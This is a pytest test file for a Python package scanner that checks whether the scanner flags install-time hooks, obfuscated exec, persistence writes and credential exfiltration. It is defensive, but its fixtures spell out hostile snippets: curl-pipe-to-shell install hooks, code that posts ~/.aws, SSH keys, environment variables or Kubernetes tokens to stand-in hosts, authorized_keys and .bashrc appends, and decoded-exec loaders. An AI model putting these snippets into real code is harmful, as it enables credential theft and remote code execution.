"""Code inspection's analysis: what runs when, data flow through the module's own functions,
obscured names, and hostile input (parse errors, deep nesting, threads) as findings, not
crashes."""

from __future__ import annotations

import io
import tarfile
import threading
from pathlib import Path

import pytest

from sscli.ingest.code import inspect_code
from sscli.ingest.code.model import Finding, Phase
from sscli.ingest.code.parse import Unparsable, parse_source
from sscli.ingest.code.registry import rules
from sscli.ingest.inspect import inspect_archive
from sscli.policy.model import ArchiveLimits
from tests.builders import build_sdist, build_wheel


def _wheel(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    path = build_wheel(
        tmp_path, "demo", "1.0", extra_members=[(k, v.encode()) for k, v in files.items()]
    )
    return inspect_code(path, project="demo").findings


def _sdist(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    extra = [(f"demo-1.0/{k}", v.encode()) for k, v in files.items()]
    path = build_sdist(tmp_path, "demo", "1.0", extra=extra)
    return inspect_code(path, project="demo").findings


def _rules(findings: list[Finding], severity: str = "high") -> set[tuple[str, str, int]]:
    return {(f.rule, f.file, f.line) for f in findings if f.severity == severity}


def test_the_same_call_weighs_by_when_it_runs(tmp_path: Path) -> None:
    source = "import subprocess\n\ndef build():\n    subprocess.run(['cc', '-c', 'x.c'])\n"
    at_runtime = _wheel(tmp_path / "a", {"demo/tool.py": source})
    assert not [f for f in at_runtime if f.rule == "process-spawn"]
    at_import = _wheel(tmp_path / "b", {"demo/tool.py": source + "\nbuild()\n"})
    (spawn,) = [f for f in at_import if f.rule == "process-spawn"]
    assert (spawn.phase, spawn.severity, spawn.line) == (Phase.IMPORT, "medium", 4)
    in_tests = _sdist(tmp_path / "c", {"tests/test_x.py": source + "\nbuild()\n"})
    assert not [f for f in in_tests if f.rule == "process-spawn"]


def test_taint_flows_through_parameters_and_returns(tmp_path: Path) -> None:
    source = (
        "import os, socket\n\n"
        "def key():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n\n"
        "def send(payload, host):\n    socket.create_connection((host, 443)).sendall(payload)\n\n"
        "def main():\n    send(key().encode(), 'example.org')\n"
    )
    found = _wheel(tmp_path, {"demo/cli.py": source})  # runtime only: never called here
    assert ("exfil-credentials", "demo/cli.py", 7) in _rules(found)


def test_a_parameter_decoded_by_a_helper_is_decoded_when_the_caller_passes_a_literal(
    tmp_path: Path,
) -> None:
    source = "import base64\n\ndef run(blob):\n    exec(base64.b64decode(blob))\n\ndef handle(data):\n    run(data)\n"
    assert not _rules(_wheel(tmp_path / "a", {"demo/x.py": source}))
    found = _wheel(tmp_path / "b", {"demo/x.py": source + "\nrun('cHJpbnQoMSk=')\n"})
    assert ("exec-decoded", "demo/x.py", 4) in _rules(found)


@pytest.mark.parametrize(
    "line",
    [
        "getattr(__import__('builtins'), 'ex' + 'ec')('x = 1')",
        "__builtins__['ev' + 'al']('1')",
        "getattr(__import__('builtins'), ''.join(map(chr, [101, 120, 101, 99])))('x = 1')",
        "globals()['__builtins__'].__dict__['exec']('x = 1')",
    ],
)
def test_names_built_to_hide_exec_are_seen(tmp_path: Path, line: str) -> None:
    found = _wheel(tmp_path, {"demo/x.py": line + "\n"})
    assert ("exec-obscured", "demo/x.py", 1) in _rules(found), found


def test_identifiers_are_matched_after_nfkc_folding(tmp_path: Path) -> None:
    found = _wheel(
        tmp_path,
        {"demo/x.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('eA=='))\n"},
    )
    assert {("obscured-identifier", "demo/x.py", 2), ("exec-decoded", "demo/x.py", 2)} <= _rules(
        found
    )


def test_an_ordinary_getattr_of_exec_is_not_obscured(tmp_path: Path) -> None:
    # six does exactly this
    found = _wheel(tmp_path, {"demo/x.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n"})
    assert not _rules(found) and not _rules(found, "medium")


def test_docstring_urls_and_name_templates_are_not_findings(tmp_path: Path) -> None:
    source = (
        '"""Post to https://discord.com/api/webhooks/ID/TOKEN or https://api.telegram.org/botTOKEN."""\n'
        "import importlib\n\nWEBHOOK = 'https://discord.com/api/webhooks/{id}/{token}'\n\n"
        "def plugin(name):\n    return importlib.import_module(name)\n"
    )
    assert not _rules(_wheel(tmp_path, {"demo/x.py": source}))


def test_pth_lines_run_at_start_up_and_so_does_the_module_they_import(tmp_path: Path) -> None:
    files = {
        "demo.pth": "import _demo_start; _demo_start.go()\n",
        "_demo_start.py": "import urllib.request\n\ndef go():\n    urllib.request.urlopen('https://example.org/')\n",
    }
    found = _wheel(tmp_path, files)
    (network,) = [f for f in found if f.rule == "network-call"]
    assert (network.phase, network.severity, network.file, network.line) == (
        Phase.STARTUP,
        "high",
        "_demo_start.py",
        4,
    )
    assert [f.rule for f in found if f.file == "demo.pth"] == ["pth-exec"]


def test_setup_py_imports_make_sdist_modules_install_time(tmp_path: Path) -> None:
    files = {
        "setup.py": "import helper\nfrom setuptools import setup\nsetup()\n",
        "helper.py": "import subprocess\nsubprocess.run(['gcc', '--version'])\n",
    }
    (spawn,) = [f for f in _sdist(tmp_path, files) if f.rule == "process-spawn"]
    assert (spawn.file, spawn.phase) == ("helper.py", Phase.INSTALL)


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("def f(:\n", "not valid Python"),
        ("x = " + "(" * 5000 + ")" * 5000 + "\n", ""),
        ("x = " + " + ".join(["1"] * 60000) + "\n", ""),
        ("\x00\x01binary", "not"),
    ],
)
def test_hostile_sources_are_findings_not_crashes(tmp_path: Path, source: str, why: str) -> None:
    found = _sdist(tmp_path, {"setup.py": source})
    problems = [f for f in found if f.rule in ("unparsable", "unanalysed")]
    assert problems and why in problems[0].message, found


def test_parsing_in_threads_at_once_is_serialised() -> None:
    deep = "x = " + "[" * 90 + "]" * 90 + "\n" + "def f():\n    return 1\n" * 200
    errors: list[BaseException] = []

    def parse() -> None:
        for _ in range(20):
            try:
                parse_source(deep, "x.py")
            except (Unparsable, SystemError, RecursionError) as exc:
                errors.append(exc)

    threads = [threading.Thread(target=parse) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []


def test_identical_duplicate_tar_members_pass_and_conflicting_ones_do_not(tmp_path: Path) -> None:
    def sdist(name: str, second: bytes) -> Path:
        path = tmp_path / f"{name}-1.0.tar.gz"
        with tarfile.open(path, "w:gz") as archive:
            for member, data in [
                (
                    f"{name}-1.0/PKG-INFO",
                    f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n\n".encode(),
                ),
                (f"{name}-1.0/a.py", b"x = 1\n"),
                (f"{name}-1.0/a.py", second),
            ]:
                info = tarfile.TarInfo(member)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return path

    ok, _ = inspect_archive(sdist("same", b"x = 1\n"), ArchiveLimits())
    assert (ok[0].rule, ok[0].status.value) == ("archive", "pass")
    refused, _ = inspect_archive(sdist("other", b"x = 2\n"), ArchiveLimits())
    assert refused[0].status.value == "fail" and "other content" in refused[0].message


def test_a_binary_in_a_pure_wheel_loaded_with_ctypes_is_refused_and_alone_is_a_warning(
    tmp_path: Path,
) -> None:
    elf = "\x7fELF\x02\x01\x01"
    quiet = _wheel(tmp_path / "a", {"demo/lib/x.so": elf})
    assert [(f.rule, f.severity) for f in quiet if f.file == "demo/lib/x.so"] == [
        ("binary-in-pure-wheel", "medium")
    ]
    loader = (
        "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'lib', 'x.so'))\n"
    )
    found = _wheel(tmp_path / "b", {"demo/lib/x.so": elf, "demo/native.py": loader})
    assert ("native-load-bundled", "demo/native.py", 2) in _rules(found)


def test_every_rule_has_a_family_a_title_and_a_severity() -> None:
    table = rules()
    assert len(table) >= 35
    for rule in table.values():
        assert rule.title and rule.family
        assert any(rule.severity(p) for p in Phase)


def test_what_eval_runs_is_its_code_not_the_namespace_beside_it(tmp_path: Path) -> None:
    parsed = (
        "import base64\n\n"
        "def value(expr, text):\n"
        "    names = {'k': base64.b64decode(text)}\n"
        "    return eval(expr.strip(), {}, names)\n\n"
        "def main():\n"
        "    return value(input(), 'aGk=')\n"
    )
    assert not [f for f in _wheel(tmp_path / "a", {"demo/calc.py": parsed}) if f.severity == "high"]
    literal = "import base64\nexec('import os; os.system(c)', {'c': base64.b64decode('aWQ=')})\n"
    found = _wheel(tmp_path / "b", {"demo/boot.py": literal})
    assert ("exec-decoded", "demo/boot.py", 2) in _rules(found)


def test_a_container_of_parsed_values_is_not_a_literal_once_it_holds_one(tmp_path: Path) -> None:
    source = (
        "def params(lines):\n"
        "    out = dict(lines)\n"
        "    for name in lines:\n"
        "        out[name] = 8\n"
        "        out[name] = chr(out[name])\n"
        "    return eval(out['x'])\n"
    )
    assert not [f for f in _wheel(tmp_path / "a", {"demo/p.py": source}) if f.severity == "high"]
    built = "codes = [105, 100]\ncodes[0] = 105\nexec(''.join(chr(c) for c in codes))\n"
    found = _wheel(tmp_path / "b", {"demo/boot.py": built})
    assert ("exec-decoded", "demo/boot.py", 3) in _rules(found)


def test_a_directory_of_tests_by_its_words_is_runtime_unless_installed_code_imports_it(
    tmp_path: Path,
) -> None:
    source = "import urllib.request\nurllib.request.urlopen('https://example.org/x')\n"
    manual = _sdist(tmp_path / "a", {"vendor/manual tests/fetch.py": source})
    assert not [f for f in manual if f.rule == "network-call"]
    imported = _wheel(
        tmp_path / "b",
        {"demo/unit_tests/fetch.py": source, "demo/boot.py": "from demo.unit_tests import fetch\n"},
    )
    (call,) = [f for f in imported if f.rule == "network-call"]
    assert (call.file, call.phase) == ("demo/unit_tests/fetch.py", Phase.IMPORT)


def test_the_walkers_fast_path_skips_no_name_its_sources_and_sinks_test_for() -> None:
    """`_call` returns early for a callee that no branch names: every name a branch compares
    `callee`, `name` (builtins) or `last` with must be in the sets the early return consults."""
    import ast as ast_
    import inspect as inspect_

    from sscli.ingest.code import flow
    from sscli.ingest.code import vocabulary as vocab

    body = ast_.parse(inspect_.getsource(flow.ModuleWalker._call).lstrip())
    (guard,) = [
        n
        for n in ast_.walk(body)
        if isinstance(n, ast_.If) and "_SINK_NAMES" in ast_.unparse(n.test)
    ]
    compared: dict[str, set[str]] = {"callee": set(), "last": set(), "name": set()}
    for node in ast_.walk(body):
        if (  # callee.endswith("().open"): its last part
            isinstance(node, ast_.Call)
            and isinstance(node.func, ast_.Attribute)
            and node.func.attr == "endswith"
            and ast_.unparse(node.func.value) == "callee"
            and node.lineno > guard.end_lineno  # type: ignore[operator]
        ):
            suffix = ast_.literal_eval(node.args[0])
            for text in suffix if isinstance(suffix, tuple) else (suffix,):
                compared["last"].add(text.rsplit(".", 1)[-1])
        if not (isinstance(node, ast_.Compare) and isinstance(node.left, ast_.Name)):
            continue
        if node.lineno <= guard.end_lineno or node.left.id not in compared:  # type: ignore[operator]
            continue
        if not isinstance(node.ops[0], ast_.In | ast_.Eq):
            continue
        right = node.comparators[0]
        if isinstance(right, ast_.Attribute):  # a vocabulary set, nothing else
            assert isinstance(right.value, ast_.Name) and right.value.id == "v", ast_.unparse(node)
            compared[node.left.id] |= set(getattr(vocab, right.attr))
        elif isinstance(right, ast_.Constant):
            compared[node.left.id].add(right.value)
        elif isinstance(right, ast_.Tuple | ast_.Set):
            compared[node.left.id] |= {e.value for e in right.elts if isinstance(e, ast_.Constant)}
    assert compared["callee"] and compared["last"]
    assert compared["callee"] <= flow._SINK_NAMES
    assert {f"builtins.{n}" for n in compared["name"]} <= flow._SINK_NAMES
    assert compared["last"] <= flow._SINK_LASTS


def test_a_sink_reached_through_many_calls_is_recorded_once_per_scope(tmp_path: Path) -> None:
    """Each function calling the one before three times handed its callers 3**depth copies of
    the same sink (a 1 KB file with 20 of them never finished)."""
    import ast as ast_

    from sscli.ingest.code.flow import ModuleWalker

    source = "import os\n\ndef f0(x):\n    os.system(x)\n"
    for i in range(1, 12):
        source += f"\ndef f{i}(x):\n    f{i - 1}(x)\n    f{i - 1}(x)\n    f{i - 1}(x)\n"
    flow = ModuleWalker(ast_.parse(source), "demo.deep", "demo").run()
    assert max(len(scope.events) for scope in flow.scopes.values()) == 1
    found = _wheel(tmp_path, {"demo/deep.py": source + "\nf11(input())\n"})
    assert ("process-spawn", "demo/deep.py", 4) in _rules(found, "medium")


def test_a_module_over_the_event_bound_is_unanalysed_not_silent(tmp_path: Path) -> None:
    from sscli.ingest.code import flow

    calls = "".join(f"os.system('echo {i}')\n" for i in range(flow.MAX_EVENTS + 1))
    found = _wheel(tmp_path, {"demo/huge.py": "import os\n" + calls})
    assert [(f.rule, f.severity) for f in found if f.file == "demo/huge.py"] == [
        ("unanalysed", rules()["unanalysed"].severity(Phase.IMPORT))
    ]


def test_a_module_over_the_time_bound_is_unanalysed_not_silent(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sscli.ingest.code import flow

    monkeypatch.setattr(flow, "MAX_SECONDS", -1.0)  # every walk is over it
    body = "".join(f"x{i} = {i}\n" for i in range(2048))
    found = _wheel(tmp_path, {"demo/slow.py": "import os\n" + body + "os.system('id')\n"})
    assert [(f.rule, f.message) for f in found if f.file == "demo/slow.py"] == [
        ("unanalysed", "over -1 CPU seconds to analyse")
    ]


_EXFIL = (
    "import os, json, urllib.request\n"
    "urllib.request.urlopen('https://example.invalid/e', data=json.dumps(dict(os.environ)).encode())\n"
)


@pytest.mark.parametrize(
    "newer",
    [
        "type Cfg = dict[str, str]\n",
        "def first[T](items: list[T]) -> T:\n    return items[0]\n",
        "class Box[T]:\n    pass\n",
        "try:\n    pass\nexcept ValueError, TypeError:\n    pass\n",
    ],
)
def test_syntax_newer_than_the_analyser_is_respelled_and_analysed(
    tmp_path: Path, newer: str
) -> None:
    found = _wheel(tmp_path, {"demo/core.py": newer + _EXFIL})
    assert ("exfil-credentials", "demo/core.py", len(newer.splitlines()) + 2) in _rules(found)


def test_what_does_not_parse_is_set_aside_and_fails_closed_where_it_runs(tmp_path: Path) -> None:
    # a PEP 701 f-string (3.12) the 3.11 parser rejects: the line is not read, the rest is
    source = "x = f'{'nested'}'\n" + _EXFIL
    found = _wheel(tmp_path / "a", {"demo/core.py": source})
    assert ("exfil-credentials", "demo/core.py", 3) in _rules(found)
    assert ("unparsable", "demo/core.py", 0) in _rules(found)
    (unread,) = [f for f in found if f.rule == "unparsable"]
    assert "1 statement(s) not read (line 1)" in unread.message
    # run only when called (a wheel's test module): reported, not refused
    in_tests = _wheel(tmp_path / "b", {"demo/tests/test_x.py": "x = f'{'nested'}'\n"})
    assert [(f.rule, f.severity) for f in in_tests if f.rule == "unparsable"] == [
        ("unparsable", "medium")
    ]


def test_python2_sources_are_low_since_python3_cannot_run_them(tmp_path: Path) -> None:
    found = _wheel(tmp_path, {"demo/old.py": "import os\nprint 'hello'\nexec 'x = 1'\n"})
    assert [(f.rule, f.severity) for f in found if f.rule.startswith("unparsable")] == [
        ("unparsable-python2", "low")
    ]


def test_padding_past_the_size_limit_is_set_aside_and_dense_code_fails_closed(
    tmp_path: Path,
) -> None:
    padding = "# " + "x" * 78 + "\n"
    padded = _EXFIL + padding * (5 * 1024 * 1024 // len(padding))
    found = _wheel(tmp_path / "a", {"demo/core.py": padded})
    assert ("exfil-credentials", "demo/core.py", 2) in _rules(found)
    dense = _EXFIL + "x = 1\n" * (5 * 1024 * 1024 // 6)
    found = _wheel(tmp_path / "b", {"demo/core.py": dense})
    assert ("unanalysed", "demo/core.py", 0) in _rules(found)


def test_a_module_nested_as_deep_as_cpython_compiles_is_analysed(tmp_path: Path) -> None:
    source = "x = " + "+".join(["1"] * 990) + "\n" + _EXFIL
    found = _wheel(tmp_path, {"demo/core.py": source})
    assert ("exfil-credentials", "demo/core.py", 3) in _rules(found)
    assert not [f for f in found if f.rule == "unanalysed"]


_CURL = "import os\n\nclass Install:\n    def run(self):\n        os.system('curl -s https://example.invalid/x | sh')\n"


def test_cmdclass_classes_from_the_sdists_own_modules_run_at_install(tmp_path: Path) -> None:
    imported = {
        "setup.py": "from setuptools import setup\nimport helpers as h\n"
        "cmds = {}\ncmds['in' + 'stall'] = h.Install\nsetup(cmdclass=cmds)\n",
        "helpers/__init__.py": "from ._cmd import Install\n",
        "helpers/_cmd.py": _CURL,
    }
    found = _sdist(tmp_path / "a", imported)
    assert ("process-download", "helpers/_cmd.py", 5) in _rules(found)
    configured = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "setup.cfg": "[options.cmdclass]\ninstall = cmds.Install\n",
        "cmds.py": _CURL,
    }
    found = _sdist(tmp_path / "b", configured)
    assert ("process-download", "cmds.py", 5) in _rules(found)
    assert ("build-hook", "setup.cfg", 0) in _rules(found, "low")


def test_a_package_module_imported_by_setup_py_keeps_runtime_functions(tmp_path: Path) -> None:
    files = {
        "setup.py": "from setuptools import setup\nfrom demo import __version__\nsetup()\n",
        "demo/core.py": "__version__ = '1.0'\n",
        "demo/tool.py": _CURL,
    }
    assert not _rules(_sdist(tmp_path, files))


def test_sitecustomize_and_usercustomize_at_the_top_run_at_start_up(tmp_path: Path) -> None:
    spawn = "import subprocess\nsubprocess.Popen(['true'])\n"
    found = _wheel(tmp_path, {"usercustomize.py": spawn, "demo/sitecustomize.py": spawn})
    assert ("process-spawn", "usercustomize.py", 2) in _rules(found)
    assert {(f.file, f.phase) for f in found if f.rule == "process-spawn"} == {
        ("usercustomize.py", Phase.STARTUP),
        ("demo/sitecustomize.py", Phase.IMPORT),
    }


def test_setuptools_plugin_entry_points_run_in_every_later_build(tmp_path: Path) -> None:
    hook = (
        "import getpass, urllib.request\n\n"
        "def finalize(dist):\n"
        "    urllib.request.urlopen('https://example.invalid/?u=' + getpass.getuser())\n"
    )
    points = "[setuptools.finalize_distribution_options]\nx = demo.hook:finalize\n"
    found = _wheel(
        tmp_path / "a",
        {
            "demo/core.py": "",
            "demo/hook.py": hook,
            "demo-1.0.dist-info/entry_points.txt": points,
        },
    )
    assert ("exfil-host", "demo/hook.py", 4) in _rules(found)
    as_script = points.replace("setuptools.finalize_distribution_options", "console_scripts")
    found = _wheel(
        tmp_path / "b",
        {
            "demo/core.py": "",
            "demo/hook.py": hook,
            "demo-1.0.dist-info/entry_points.txt": as_script,
        },
    )
    assert not _rules(found)


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        # paths and commands built from pieces
        ("from pathlib import Path\n"
         "Path.home().joinpath('.ssh', '_'.join(['authorized', 'keys'])).open('a').write('k')\n",
         "persistence-write"),
        ("import os\np = os.path.join(os.environ.get('HOME', '/'), '.ba' + 'shrc')\n"
         "fd = os.open(p, os.O_WRONLY | os.O_APPEND)\n", "persistence-write"),
        ("import subprocess\nURL = 'http://198.51.100.7/i.sh'\n"
         "cmd = ' '.join(['cu' + 'rl', URL, '|', 's' + 'h'])\nsubprocess.call(cmd, shell=True)\n",
         "process-download"),
        ("import subprocess\nsubprocess.Popen(['sh', '-c', 'wget -qO- https://x.invalid | sh'])\n",
         "process-download"),
        ("import subprocess\n(lambda c: subprocess.call(c, shell=True))('curl x.invalid | sh')\n",
         "process-download"),
        ("import functools, subprocess\n_run = functools.partial(subprocess.run, shell=True)\n"
         "_run('curl x.invalid | sh')\n", "process-download"),
        ("import subprocess\ndef _up():\n    subprocess.call('curl x.invalid | sh', shell=True)\n"
         "_HOOKS = {'init': _up}\n_HOOKS['init']()\n", "process-download"),
        # exec and deserialisation sinks
        ("import base64, timeit\ntimeit.timeit(base64.b64decode('cHJpbnQoMSk=').decode(), number=1)\n",
         "exec-decoded"),
        ("import base64\nlist(map(exec, [base64.b64decode('cHJpbnQoMSk=')]))\n", "exec-decoded"),
        ("import base64, io, pickle\n"
         "pickle.Unpickler(io.BytesIO(base64.b64decode('gAROLg=='))).load()\n", "unpickle-decoded"),
        ("import base64\n_r = __builtins__['exec'] if isinstance(__builtins__, dict) "
         "else getattr(__builtins__, 'exec')\n_r(base64.b64decode('cHJpbnQoMSk='))\n",
         "exec-decoded"),
        # decoders
        ("T = str.maketrans('abc', 'cab')\nexec('cevag(1)'.translate(T))\n", "exec-decoded"),
        ("exec((0x7072696e74283129).to_bytes(8, 'big'))\n", "exec-decoded"),
        ("import os\nraw = open(os.path.join(os.path.dirname(__file__), 'a.wav'), 'rb').read()\n"
         "exec(bytes(b ^ 0x5A for b in raw[44:]))\n", "exec-decoded"),
        ("exec(bytes(b ^ 0x20 for b in b'PRINT\\x08\\x11\\t\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'))\n",
         "exec-decoded"),
        ("import subprocess, sys, base64\n_c = base64.b64decode('cHJpbnQoMSk=')\n"
         "subprocess.Popen([sys.executable], stdin=subprocess.PIPE).communicate(_c)\n",
         "process-decoded"),
        # sources
        ("import socket\nsocket.create_connection(('x.invalid', 443)).sendall("
         "open('/proc/self/environ', 'rb').read())\n", "exfil-credentials"),
        ("import urllib.request\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token')"
         ".read()\nurllib.request.urlopen('https://x.invalid/t', data=t.encode())\n",
         "exfil-credentials"),
        ("import glob, os, urllib.request\nfor k in glob.glob(os.path.expanduser('~/.*/id_*')):\n"
         "    urllib.request.urlopen('https://x.invalid/k', data=open(k, 'rb').read())\n",
         "exfil-credentials"),
        # calls the analysis follows
        ("import socket\n\ndef try_call(f, *a):\n    try:\n        return f(*a)\n"
         "    except Exception:\n        return ''\n\n"
         "socket.gethostbyname(try_call(socket.getfqdn) + '.x.invalid')\n", "exfil-host"),
        ("from urllib.request import urlopen\n\n"
         "def configure(settings=urlopen('https://x.invalid/c').read()):\n    return settings\n\n"
         "exec(configure())\n", "exec-download"),
        ("import getpass, urllib.request, weakref, sys\n\ndef _beacon():\n"
         "    urllib.request.urlopen('https://x.invalid/?u=' + getpass.getuser())\n\n"
         "weakref.finalize(sys.modules[__name__], _beacon)\n", "exfil-host"),
    ],
)  # fmt: skip
def test_built_strings_sinks_sources_and_calls_the_flow_follows(
    tmp_path: Path, source: str, rule: str
) -> None:
    found = _wheel(tmp_path, {"demo/core.py": source})
    assert rule in {r for r, _file, _line in _rules(found)}, found


def test_library_functions_and_literal_strings_do_not_become_sinks(tmp_path: Path) -> None:
    source = (
        "import os, subprocess, timeit\n"
        "HOME = os.path.join(os.path.expanduser('~'), '.config', 'demo')\n"
        "NAME = ' '.join(['demo', 'tool'])\n"
        "subprocess.run(['bash', '-c', 'echo ' + NAME])\n"
        "timeit.timeit('x = 1', number=1)\n"
        "sorted(map(str, [1, 2]), key=len)\n"
        "os.open(os.path.join(HOME, 'state'), os.O_RDONLY)\n"
        # field arithmetic fed to a formatter (grpcio's make_curve25519_tables.py)
        "table = [str((i * 19) ^ 0xFF) for i in range(8)]\n"
        "proc = subprocess.Popen(['clang-format'], stdin=subprocess.PIPE)\n"
        "proc.communicate(','.join(table).encode())\n"
        "proc.communicate((2 ** 255 - 19).to_bytes(32, 'little'))\n"
        # google-auth reads its mTLS configuration at import (not a credential store)
        "open(os.path.join(os.path.expanduser('~'), '.config', 'gcloud', 'certificate_config.json'))\n"
        "open('/var/run/secrets/workload-spiffe-credentials/x509.credential-bundle.pem')\n"
    )
    found = _wheel(tmp_path, {"demo/core.py": source})
    assert not _rules(found), found


def test_aliases_decoders_and_data_are_followed_across_the_packages_modules(
    tmp_path: Path,
) -> None:
    files = {
        "demo/_compat.py": "import builtins, base64, zlib\nrun_compat = builtins.exec\n\n"
        "def unpack(blob):\n    return zlib.decompress(base64.b85decode(blob))\n",
        "demo/_data.py": "BLOB = 'c${Wl?P6R'\n",
        "demo/core.py": "from ._compat import run_compat, unpack\nfrom ._data import BLOB\n"
        "run_compat(unpack(BLOB))\n",
    }
    found = _wheel(tmp_path / "a", files)
    assert ("exec-decoded", "demo/core.py", 3) in _rules(found)
    # the same helpers used on what the caller is given, at runtime: nothing automatic
    files["demo/core.py"] = "from ._compat import run_compat, unpack\n\n" + (
        "def load(text):\n    return unpack(text)\n"
    )
    assert not _rules(_wheel(tmp_path / "b", files))


_AWS_CLIENT = (
    "import configparser, os, urllib.request\n\n"
    "def list_buckets(url='https://s3.amazonaws.com/'):\n"
    "    cp = configparser.ConfigParser()\n"
    "    cp.read(os.path.expanduser('~/.aws/credentials'))\n"
    "    key = cp['default']['aws_access_key_id']\n"
    "    req = urllib.request.Request(url, headers={'Authorization': key})\n"
    "    return urllib.request.urlopen(req).read()\n"
)
_UPLOADER = (
    "import configparser, os, urllib.request, base64, keyring\n\n"
    "def upload(path):\n"
    "    cp = configparser.ConfigParser()\n"
    "    cp.read(os.path.expanduser('~/.pypirc'))\n"
    "    pw = cp.get('pypi', 'password', fallback=None) or keyring.get_password("
    "'https://upload.pypi.org/legacy/', 'user')\n"
    "    auth = base64.b64encode(f'user:{pw}'.encode()).decode()\n"
    "    req = urllib.request.Request('https://upload.pypi.org/legacy/', "
    "data=open(path, 'rb').read(), headers={'Authorization': 'Basic ' + auth})\n"
    "    return urllib.request.urlopen(req).status\n"
)
_REGISTRY_CLIENT = (
    "import json, os, urllib.request\n\n"
    "def login_check(registry='https://index.docker.io/v1/'):\n"
    "    cfg = os.path.join(os.path.expanduser('~'), '.docker', 'config.json')\n"
    "    with open(cfg) as f:\n"
    "        tok = json.load(f).get('auths', {}).get(registry, {}).get('auth')\n"
    "    req = urllib.request.Request(registry, headers={'Authorization': 'Basic ' + tok})\n"
    "    return urllib.request.urlopen(req).status\n"
)


@pytest.mark.parametrize("client", [_AWS_CLIENT, _UPLOADER, _REGISTRY_CLIENT])
def test_api_clients_sending_a_credential_to_its_own_service_are_not_exfiltration(
    tmp_path: Path, client: str
) -> None:
    # the red team's benign lookalikes of boto/aws-cli, twine and the docker SDK (2026-12-07)
    found = _wheel(tmp_path / "a", {"demo/client.py": client})
    assert not _rules(found) and not _rules(found, "medium"), found
    assert {f.severity for f in found if f.rule == "credentials-to-own-service"} == {"low"}
    # run by itself, it is refused all the same
    at_import = client + "\n" + client.split("def ", 1)[1].split("(", 1)[0] + "()\n"
    found = _wheel(tmp_path / "b", {"demo/client.py": at_import})
    assert "credentials-to-own-service" in {r for r, _f, _l in _rules(found)}


def test_a_credential_sent_anywhere_else_is_exfiltration_at_runtime_too(tmp_path: Path) -> None:
    elsewhere = _AWS_CLIENT.replace("https://s3.amazonaws.com/", "https://collect.example.invalid/")
    mixed = _AWS_CLIENT.replace(
        "cp['default']['aws_access_key_id']",
        "cp['default']['aws_access_key_id'] + open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    )
    for index, source in enumerate([elsewhere, mixed]):
        found = _wheel(tmp_path / str(index), {"demo/client.py": source})
        assert "exfil-credentials" in {r for r, _f, _l in _rules(found)}, found


def test_a_zip_of_modules_under_another_name_and_bytecode_in_data_are_refused(
    tmp_path: Path,
) -> None:
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("stage.py", "import os\n")
    tmp_path.mkdir(parents=True, exist_ok=True)
    members = [("demo/fonts.dat", buffer.getvalue()), ("demo/bundle.zip", buffer.getvalue())]
    path = build_wheel(tmp_path, "demo", "1.0", extra_members=members)
    found = inspect_code(path, project="demo").findings
    assert _rules(found) == {("hidden-python-archive", "demo/fonts.dat", 0)}
    loader = (
        "import marshal, os\n"
        "with open(os.path.join(os.path.dirname(__file__), '_cache.bin'), 'rb') as f:\n"
        "    exec(marshal.loads(f.read()[16:]))\n"
    )
    found = _wheel(tmp_path / "b", {"demo/core.py": loader})
    assert ("exec-bytecode-data", "demo/core.py", 3) in _rules(found)


def test_salvaging_a_big_file_full_of_errors_is_bounded(tmp_path: Path) -> None:
    # 60 errors in ~400 KB: each round re-parses it all, so it gives up after 20 (8 MiB read)
    broken = ("def f(:\n" + "x = 1\n" * 5000) * 60
    found = _wheel(tmp_path / "a", {"demo/core.py": broken})
    (unread,) = [f for f in found if f.rule == "unparsable"]
    assert unread.severity == "high" and "not read" not in unread.message
    few = ("def f(:\n" + "x = 1\n" * 5000) * 3
    (unread,) = [f for f in _wheel(tmp_path / "b", {"demo/core.py": few}) if f.rule == "unparsable"]
    assert "3 statement(s) not read" in unread.message


def test_an_unparsable_file_no_import_can_name_is_weighed_as_runtime(tmp_path: Path) -> None:
    # pypi-attestations' test sdist ships HTML as src/__init__.py, outside any package
    html = "<pre>hi</pre>\n<img src=x onerror=alert(1)>\n"
    found = _sdist(tmp_path, {"src/__init__.py": html, "src/demo/__init__.py": "x = f'{'a'}'\n"})
    assert {(f.file, f.severity) for f in found if f.rule == "unparsable"} == {
        ("src/__init__.py", "medium"),
        ("src/demo/__init__.py", "high"),
    }
